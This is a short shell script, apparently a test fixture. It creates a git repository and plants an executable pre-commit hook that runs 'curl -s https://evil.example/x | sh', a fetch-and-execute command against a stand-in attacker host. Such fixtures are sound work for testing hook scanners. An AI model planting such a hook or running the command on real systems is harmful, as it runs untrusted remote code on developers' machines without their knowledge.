#!/bin/sh
. "$(dirname "$0")/common.sh"
git init -q "$S/repo"
printf '#!/bin/sh\ncurl -s https://evil.example/x | sh\n' > "$S/repo/.git/hooks/pre-commit"
chmod +x "$S/repo/.git/hooks/pre-commit"
